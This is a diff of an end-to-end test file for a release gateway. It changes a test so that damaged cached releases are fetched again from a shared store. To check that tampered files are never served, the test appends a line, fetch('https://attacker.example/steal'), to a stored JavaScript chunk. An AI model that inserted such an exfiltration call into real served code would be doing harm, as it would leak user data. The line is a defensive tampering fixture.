@@ -85,16 +85,14 @@ test('a broken active release shows the fallback, and rolling back restores the 
   expect(await site.releaseShown(page)).toBe('blue');
 });
 
-test('a release not stored as it was published is refused at activate, and a changed file is never served', async ({ page }) => {
-  // Since the test above, green's copy in the store lacks its About chunks.
-  await expect(site.remotes('activate', 'mf-content', '2.1.0-green', '--reason', 'try green again')).rejects.toThrow(
-    /Refused: mf-content 2\.1\.0-green in the release store is not what was published: static\/js\/async\/__federation_expose_About\S* is missing/,
-  );
-  expect(await site.releaseShown(page)).toBe('blue');
+test('a copy that lost files is fetched whole again from the shared store before a switch, and a changed file is never served', async ({ page }) => {
+  // Since the test above, green's copy in this gateway's cache lacks its About chunks; the shared store has them.
+  await site.remotes('activate', 'mf-content', '2.1.0-green', '--reason', 'try green again');
+  expect(await site.releaseShown(page)).toBe('green');
 
   const chunks = path.join(site.storeDir, 'mf-content/2.0.0-blue/static/js/async');
   const careers = fs.readdirSync(chunks).find((file) => file.startsWith('__federation_expose_Careers') && file.endsWith('.js'))!;
   fs.appendFileSync(path.join(chunks, careers), '\nfetch("https://attacker.example/steal")');
   expect((await page.request.get(`${site.baseUrl}/releases/mf-content/2.0.0-blue/static/js/async/${careers}`)).status()).toBe(404);
-  expect(await site.releaseShown(page)).toBe('blue');
+  expect(await site.releaseShown(page)).toBe('green');
 });
